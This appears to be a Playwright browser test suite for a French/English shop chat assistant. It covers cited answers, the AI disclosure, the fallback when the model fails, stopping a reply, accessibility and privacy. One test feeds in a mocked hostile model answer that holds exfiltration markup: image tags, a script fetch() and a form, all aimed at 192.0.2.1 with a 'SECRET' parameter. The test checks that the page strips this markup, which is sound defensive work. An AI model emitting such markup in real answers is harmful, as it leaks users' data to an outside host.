import pytest
from playwright.sync_api import expect

from tests.browser.conftest import PHONE, Door
from tests.wire.faults import Fault, status
from tests.wire.server import Wire

pytestmark = pytest.mark.browser
QUESTIONS = {
    "fr-FR": ("Combien coûte la livraison en France ?", "4,90 €", "Livraison"),
    "en-GB": ("How long do I have to return an article?", "You have 30 days", "Returns"),
}


@pytest.mark.parametrize("locale", QUESTIONS)
def test_a_question_gets_a_cited_answer(door: Door, locale: str) -> None:
    question, said, source = QUESTIONS[locale]
    visitor = door.enter(locale)
    page = visitor.open("/chat/")
    visitor.ask(question)
    expect(page.locator(".b-sources")).to_contain_text(source)
    expect(page.locator(".b-text")).to_contain_text(said)
    page.locator("a.b-cite").first.click()
    expect(page.locator(".b-source[open]")).to_contain_text(source)
    expect(page.locator(".b-source[open] mark")).to_be_visible()
    expect(page.locator(".b-question")).to_have_text(question)
    expect(page.locator("#question textarea")).to_have_value("")


@pytest.mark.parametrize(
    ("locale", "said"), [("fr-FR", "intelligence artificielle"), ("en-GB", "artificial intelligence")]
)
@pytest.mark.parametrize("size", [PHONE, (1280, 860)])
def test_before_typing_the_visitor_knows_that_it_is_an_ai(
    door: Door, locale: str, said: str, size: tuple[int, int]
) -> None:
    page = door.enter(locale, size).open("/chat/")
    note, box = page.locator(".b-disclosure"), page.locator("#question textarea")
    expect(note).to_be_in_viewport()
    expect(note).to_contain_text(said)
    expect(page.locator("#talk .b-answer:visible")).to_contain_text(said)
    expect(box).to_be_in_viewport()
    above, below = note.bounding_box(), box.bounding_box()
    assert above
    assert below
    assert above["y"] + above["height"] <= below["y"]


def test_a_starter_question_asks_itself(door: Door) -> None:
    page = door.enter("en-GB").open("/chat/")
    page.get_by_role("button", name="How long do I have to return an article?").click()
    expect(page.locator(".b-text")).to_contain_text("30 days")
    expect(page.locator(".b-starters").first).to_be_hidden()


def test_the_switch_changes_the_language(door: Door) -> None:
    page = door.enter("fr-FR").open("/chat/")
    expect(page.locator("#send")).to_have_text("Envoyer")
    page.get_by_role("link", name="English").click()
    expect(page.locator("#send")).to_have_text("Send")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.locator("#question textarea")).to_have_attribute("placeholder", "Your question…")


def test_what_is_not_known_names_a_person(door: Door) -> None:
    visitor = door.enter("fr-FR")
    page = visitor.open("/chat/")
    visitor.ask("Combien pèse la tour de Rochemelle ?")
    expect(page.locator(".b-unknown")).to_contain_text("Je n’ai pas trouvé")
    expect(page.get_by_role("link", name="bonjour@filature.example")).to_be_visible()


def test_without_a_model_the_pages_are_quoted_and_marked_as_such(door: Door, wire: Wire) -> None:
    visitor = door.enter("en-GB")
    page = visitor.open("/chat/")
    wire.fail(status(401))
    visitor.ask(QUESTIONS["en-GB"][0])
    expect(page.locator(".b-marked .b-note")).to_contain_text("could not be written")
    expect(page.locator(".b-text")).to_contain_text("30 days")
    page.get_by_role("button", name="Ask the question again").click()
    expect(page.locator(".b-turn")).to_have_count(1)
    expect(page.locator(".b-marked")).to_have_count(0)
    expect(page.locator(".b-text")).to_contain_text("30 days")


def test_stop_frees_the_model_and_the_next_question_works(door: Door, wire: Wire) -> None:
    visitor = door.enter("fr-FR")
    page = visitor.open("/chat/")
    wire.fail(Fault("stall", seconds=30, after=3))
    visitor.ask(QUESTIONS["fr-FR"][0])
    expect(page.locator("#stop")).to_be_visible()
    assert wire.wait(lambda server: len(server.calls) == 1)
    page.locator("#stop").click()
    expect(page.locator(".b-note")).to_have_text("Réponse arrêtée.")
    assert wire.wait(lambda server: server.calls[-1].disconnected)
    visitor.ask(QUESTIONS["fr-FR"][0])
    expect(page.locator(".b-turn:last-child .b-text")).to_contain_text("4,90 €")


def test_closing_the_tab_frees_the_model(door: Door, wire: Wire) -> None:
    visitor = door.enter("fr-FR")
    page = visitor.open("/chat/")
    wire.fail(Fault("stall", seconds=30, after=3))
    visitor.ask(QUESTIONS["fr-FR"][0])
    assert wire.wait(lambda server: len(server.calls) == 1)
    page.close()
    assert wire.wait(lambda server: server.calls[-1].disconnected)


def test_a_double_click_asks_once(door: Door, wire: Wire) -> None:
    page = door.enter("fr-FR").open("/chat/")
    page.locator("#question textarea").fill(QUESTIONS["fr-FR"][0])
    page.locator("#send").dblclick()
    expect(page.locator(".b-sources")).to_be_visible()
    assert len(wire.calls) == 1


def test_a_hostile_answer_sends_nothing_anywhere(door: Door, wire: Wire) -> None:
    wire.answer = lambda _messages, _body: (
        "La livraison en France coûte 4,90 € [1]. ![x](http://192.0.2.1/?d=SECRET) "
        "<img src='http://192.0.2.1/?d=SECRET'><script>fetch('http://192.0.2.1')</script> "
        "[clic](http://192.0.2.1) <form action='http://192.0.2.1'><input></form>"
    )
    visitor = door.enter("fr-FR")
    page = visitor.open("/chat/")
    visitor.ask(QUESTIONS["fr-FR"][0])
    expect(page.locator(".b-sources")).to_be_visible()
    assert page.locator("#talk").locator("img, form, input, iframe, [href*='192.0.2.1']").count() == 0


def test_the_keyboard_is_enough(door: Door) -> None:
    page = door.enter("fr-FR").open("/chat/")
    expect(page.locator("#question textarea")).to_be_visible()
    for _ in range(20):
        page.keyboard.press("Tab")
        outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert outline != "none"
        if page.evaluate("document.activeElement.matches('#question textarea')"):
            break
    page.keyboard.type(QUESTIONS["fr-FR"][0])
    page.keyboard.press("Enter")
    expect(page.locator(".b-sources")).to_be_visible()
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.matches('a.b-cite')"):
            break
    page.keyboard.press("Enter")
    expect(page.locator(".b-source[open]")).to_be_visible()


def test_nothing_is_stored_in_a_visitor_s_browser(door: Door) -> None:
    visitor = door.enter("fr-FR")
    for path in ("/", "/chat/"):
        page = visitor.open(path)
        expect(page.locator("h1").first).to_be_visible()
        assert visitor.context.cookies() == []
        assert page.evaluate("localStorage.length + sessionStorage.length") == 0
